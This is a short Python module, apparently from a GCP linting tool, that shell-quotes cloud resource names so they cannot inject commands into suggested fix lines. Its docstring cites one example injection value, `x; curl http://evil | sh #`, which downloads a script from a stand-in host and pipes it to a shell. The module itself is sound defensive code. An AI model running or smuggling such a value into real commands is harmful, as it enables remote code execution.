"""Values from the cloud in remediation commands: shell-quoted, so each is one argument.

A resource named `x; curl http://evil | sh #` must not turn a `fix:` line into a command that
runs something else. `sh` quotes a value as `shlex.quote` does (a plain name, the usual case,
stays as it is); a value holding a character that is not printable (a newline, an escape) is an
ANSI-C string (`$'…'`: bash, zsh, ksh), so the command stays on its one line. Placeholders the
user replaces (`PROJECT_ID`, `CHANNEL_ID`) are gcplint's own words and are not quoted.
"""

from __future__ import annotations

import shlex


def sh(value: object) -> str:
    """`value` as one shell word."""
    text = str(value)
    if text.isprintable():
        return shlex.quote(text)
    return "$'" + "".join(_ansi_c(ch) for ch in text) + "'"


def _ansi_c(ch: str) -> str:
    """One character inside `$'…'`."""
    if ch in "\\'":
        return "\\" + ch
    if ch.isprintable():
        return ch
    code = ord(ch)
    if code < 0x80:  # `\x` is a byte: above ASCII, the code point
        return f"\\x{code:02x}"
    return f"\\u{code:04x}" if code < 0x10000 else f"\\U{code:08x}"


def sh_field(value: object) -> str:
    """`sh(value)` inside a `str.format` template (the removal command `public_resource`
    fills in): its braces doubled."""
    return sh(value).replace("{", "{{").replace("}", "}}")
